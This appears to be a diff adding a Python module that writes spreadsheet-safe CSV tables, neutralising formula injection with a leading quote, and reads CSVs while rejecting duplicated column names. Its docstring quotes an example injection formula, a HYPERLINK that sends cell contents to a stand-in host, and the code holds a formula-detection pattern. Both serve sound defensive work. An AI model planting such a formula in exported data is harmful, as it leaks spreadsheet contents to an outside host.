@@ -1,0 +1,99 @@
+"""CSV tables in and out: every table biasim writes is safe to open in a spreadsheet, and every
+table it reads has one column per name.
+
+A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
+Excel, LibreOffice and Google Sheets: a model's answer or a group label such as
+``=HYPERLINK("http://x?"&A1, "click")`` would run when a reviewer opens ``results.csv``. Such
+cells get a leading ``'`` (the OWASP CSV-injection rule); plain numbers such as ``-0.5`` are left
+as they are. The parquet tables keep every value exactly.
+"""
+
+from __future__ import annotations
+
+import csv
+import re
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pyarrow as pa
+import pyarrow.compute as pc
+
+from biasim.simulator.common.errors import InputError, Problem
+from biasim.simulator.common.rundir import write_atomic
+
+#: First characters a spreadsheet reads as the start of a formula.
+FORMULA_START = "^[=+\\-@\t\r]"
+# A number is data, not a formula, even with a sign (`-0.5`, `+3e-2`).
+_NUMBER = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"
+_FORMULA_RE = re.compile(FORMULA_START)
+_NUMBER_RE = re.compile(_NUMBER)
+
+
+def csv_safe(value: Any) -> Any:
+    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula."""
+    if isinstance(value, str) and _FORMULA_RE.match(value) and not _NUMBER_RE.match(value):
+        return "'" + value
+    return value
+
+
+def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` whose text cells (and column names) are :func:`csv_safe`."""
+    out = frame.rename(columns=lambda c: csv_safe(c) if isinstance(c, str) else c)
+    for i, dtype in enumerate(out.dtypes):
+        if pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
+            out.isetitem(i, out.iloc[:, i].map(csv_safe))
+    return out
+
+
+def csv_safe_table(table: pa.Table) -> pa.Table:
+    """The same rule on an Arrow table's string columns (vectorised: results can be large)."""
+    columns = []
+    for column in table.columns:
+        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
+            risky = pc.and_(
+                pc.match_substring_regex(column, FORMULA_START),
+                pc.invert(pc.match_substring_regex(column, _NUMBER)),
+            )
+            quoted = pc.binary_join_element_wise(pa.scalar("'"), column, "")
+            column = pc.if_else(pc.fill_null(risky, False), quoted, column)
+        columns.append(column)
+    return pa.Table.from_arrays(columns, schema=table.schema)
+
+
+def write_csv(path: Path, frame: pd.DataFrame) -> None:
+    """Write ``frame`` as a spreadsheet-safe CSV, atomically (the one writer of CSV tables).
+
+    Rows end in CRLF (RFC 4180): with pandas' default ``\\n`` a cell holding a bare carriage
+    return is left unquoted and splits its row when read back.
+    """
+    safe = csv_safe_frame(frame)
+    write_atomic(path, lambda tmp: safe.to_csv(tmp, index=False, lineterminator="\r\n"))
+
+
+def read_csv(path: Path, what: str) -> pd.DataFrame:
+    """Read a CSV of text cells (an empty cell is missing); refuse a duplicated column name.
+
+    Args:
+        path: The file.
+        what: What the file is, for messages (e.g. ``decisions CSV``).
+
+    Raises:
+        InputError: Unreadable, not a regular file, or a column name written twice.
+    """
+    if not path.is_file():
+        raise InputError(f"{path}: cannot read {what}: not a regular file")
+    try:
+        with path.open(encoding="utf-8", newline="") as handle:
+            header = next(csv.reader(handle), [])
+        df = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""])
+    except (OSError, ValueError, UnicodeDecodeError, csv.Error) as exc:
+        raise InputError(f"{path}: cannot read {what}: {exc}") from None
+    seen: set[str] = set()
+    for name in header:
+        if name in seen:
+            raise InputError(
+                [Problem(str(path), 1, name, "column name is written twice in the header")]
+            )
+        seen.add(name)
+    return df
